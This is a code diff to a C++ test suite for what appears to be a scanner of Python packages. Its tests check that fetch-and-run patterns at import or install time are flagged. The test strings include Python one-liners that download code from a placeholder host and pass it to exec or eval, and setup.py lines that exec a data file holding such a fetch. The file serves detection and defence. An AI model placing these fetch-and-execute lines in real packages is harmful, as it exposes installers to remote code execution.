@@ -57,7 +57,7 @@ TEST_CASE("Python: what is set as a handler runs") {
 
 TEST_CASE("Python: what is fetched is run, in other words") {
     const std::string read = "urllib.request.urlopen('https://code.example/x').read()";
-    for (const std::string& source : {"exec(" + read + ")", "exec(compile(" + read + ", 'x', 'exec'))", "c = compile(" + read + ", 'x', 'exec')\nexec(c)", "import requests\nexec(requests.get('https://code.example/x').text)", "eval(" + read + ".decode())",
+    for (const std::string& source : {"exec(" + read + ")", "exec(compile(" + read + ", 'x', 'exec'))", "c = compile(" + read + ", 'x', 'exec')\nexec(c)", std::string("import requests\nexec(requests.get('https://code.example/x').text)"), "eval(" + read + ".decode())",
                                       "__import__('builtins').exec(" + read + ")"}) {
         CAPTURE(source);
         CHECK(module(kImport + source + "\n").has_trait("downloaded-code-at-import"));
@@ -76,7 +76,7 @@ TEST_CASE("wheel: a line of a .pth file ends where Python ends it") {
 
 TEST_CASE("sdist: the files that setup.py runs") {
     const std::string setup = "from setuptools import setup\n";
-    for (const std::string& run : {"exec(open('pkg/v.dat').read())\n", "with open('pkg/v.dat') as f:\n    exec(f.read(), {})\n", "import os\nexec(open(os.path.join('pkg', 'v.dat')).read())\n", "exec(compile(open('./pkg/v.dat').read(), 'v', 'exec'))\n"}) {
+    for (const char* const run : {"exec(open('pkg/v.dat').read())\n", "with open('pkg/v.dat') as f:\n    exec(f.read(), {})\n", "import os\nexec(open(os.path.join('pkg', 'v.dat')).read())\n", "exec(compile(open('./pkg/v.dat').read(), 'v', 'exec'))\n"}) {
         CAPTURE(run);
         CHECK(sdist({{"setup.py", setup + run + "setup()\n"}, {"pkg/v.dat", kFetch}}).has_trait("downloaded-code-at-install"));
         CHECK(sdist({{"setup.py", setup + run + "setup()\n"}, {"pkg/v.dat", "__version__ = '1.0'\n"}}).traits() == "runs-at-install: setup.py\n");
